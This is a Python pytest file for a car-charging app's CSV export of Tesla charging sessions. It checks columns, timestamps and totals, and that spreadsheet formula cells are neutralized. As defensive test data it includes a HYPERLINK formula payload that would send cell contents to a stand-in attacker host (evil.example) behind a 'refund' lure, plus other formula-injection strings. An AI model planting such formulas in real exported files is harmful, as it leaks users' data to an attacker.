"""`GET …/charging-history.csv`: every session of the window, fixed columns, ISO times, dot decimals, and no cell a
spreadsheet would run as a formula, whoever named the car or the site."""

from __future__ import annotations

import dataclasses
import re
from collections import defaultdict
from datetime import datetime
from decimal import Decimal

import httpx
import pytest
from fastapi import FastAPI

from carpulse.charging.ledger import HISTORY_COLUMNS, neutralized
from fakes.tesla_fleet import ChargingHistory
from tests.charging.flow import TESLA, fake_of, header_of, open_zip, rows_of, session_for, vehicle_path

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your refund")'


class TestHistoryCsv:
    async def test_every_session_of_the_window_with_fixed_columns(
        self, app: FastAPI, client: httpx.AsyncClient
    ) -> None:
        fake = fake_of(app)
        vehicle = fake.accounts["charger"].vehicles[0]
        session_id = await session_for(client, "charger")
        listing = (await client.get(f"{vehicle_path(session_id, vehicle.vin)}/charging-invoices")).json()

        response = await client.get(f"{vehicle_path(session_id, vehicle.vin)}/charging-history.csv")

        assert response.status_code == 200
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert re.fullmatch(
            rf'attachment; filename="charging-history-Maple-{vehicle.vin[-6:]}-[-\d]+\.csv"; .*',
            response.headers["content-disposition"],
        )
        assert b"\r\n" in response.content
        assert header_of(response.content) == list(HISTORY_COLUMNS)
        rows = rows_of(response.content)
        start, end = (datetime.fromisoformat(listing["window"][key]) for key in ("start", "end"))
        expected = {str(s.session_id): s for s in fake.accounts["charger"].charging.sessions if start <= s.start <= end}
        assert [row["session_id"] for row in rows] == sorted(expected, key=lambda key: expected[key].start)
        for row in rows:
            session = expected[row["session_id"]]
            assert row["invoice_ids"] == " ".join(invoice.content_id for invoice in session.invoices)
            assert Decimal(row["total"]) == session.net_due
            assert Decimal(row["energy_kwh"]) == session.energy_kwh
            assert re.fullmatch(r"\d+\.\d\d", row["charging_fee"])
            assert "," not in row["total"]
            assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d", row["start_local"])
            assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", row["start_utc"])
            assert datetime.fromisoformat(row["start_local"]) == datetime.fromisoformat(row["start_utc"])
        per_currency: dict[str, Decimal] = defaultdict(Decimal)
        for row in rows:
            per_currency[row["currency"]] += Decimal(row["total"])
        assert per_currency == {total["currency"]: Decimal(total["total"]) for total in listing["totals"]}
        assert any(row["site"] == "Oslo - Økern" for row in rows)  # UTF-8 all the way

    async def test_a_window_without_sessions_is_a_header_alone(self, app: FastAPI, client: httpx.AsyncClient) -> None:
        idle = next(v for v in fake_of(app).accounts["family"].vehicles if v.charging_months == 0)
        session_id = await session_for(client, "family")

        response = await client.get(f"{vehicle_path(session_id, idle.vin)}/charging-history.csv")

        assert response.content == (",".join(HISTORY_COLUMNS) + "\r\n").encode()


class TestFormulaInjection:
    async def test_a_formula_in_the_vehicle_name_is_text_in_both_csv_files(
        self, app: FastAPI, client: httpx.AsyncClient
    ) -> None:
        vehicle = fake_of(app).accounts["solo"].vehicles[0]
        vehicle.display_name = HYPERLINK
        session_id = await session_for(client, "solo")

        history = await client.get(f"{vehicle_path(session_id, vehicle.vin)}/charging-history.csv")
        archive = open_zip((await client.get(f"{TESLA}/session/{session_id}/charging-invoices.zip")).content)

        for rows in (rows_of(history.content), rows_of(archive.read("ledger.csv"))):
            assert rows
            assert {row["vehicle"] for row in rows} == {"'" + HYPERLINK}
        assert [name for name in archive.namelist() if name.endswith("/")] == [
            f"HYPERLINK(-https-evil.example-leak-A1-Click-for-your-refund-{vehicle.vin[-6:]}/"  # cut at 60 bytes
        ]

    @pytest.mark.parametrize("site", ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\tTab", "\rReturn"])
    async def test_a_formula_in_a_site_name_is_text(self, app: FastAPI, client: httpx.AsyncClient, site: str) -> None:
        fake = fake_of(app)
        account = fake.accounts["solo"]
        sessions = account.charging.sessions
        renamed = dataclasses.replace(sessions[-1], site=dataclasses.replace(sessions[-1].site, name=site))
        account._charging = ChargingHistory([*sessions[:-1], renamed])
        session_id = await session_for(client, "solo")

        response = await client.get(f"{vehicle_path(session_id, account.vehicles[0].vin)}/charging-history.csv")

        last = rows_of(response.content)[-1]
        assert last["session_id"] == str(renamed.session_id)
        assert last["site"] == "'" + site
        assert response.content.count(b"'" + site.encode()) == 1


class TestNeutralized:
    @pytest.mark.parametrize(
        ("text", "cell"),
        [
            ("=A1", "'=A1"),
            ("+A1", "'+A1"),
            ("-A1", "'-A1"),
            ("@A1", "'@A1"),
            ("\tA1", "'\tA1"),
            ("\rA1", "'\rA1"),
            ("A=1", "A=1"),
            ("Oslo - Økern", "Oslo - Økern"),
            ("", ""),
            (None, ""),
        ],
    )
    def test_cells(self, text: str | None, cell: str) -> None:
        assert neutralized(text) == cell
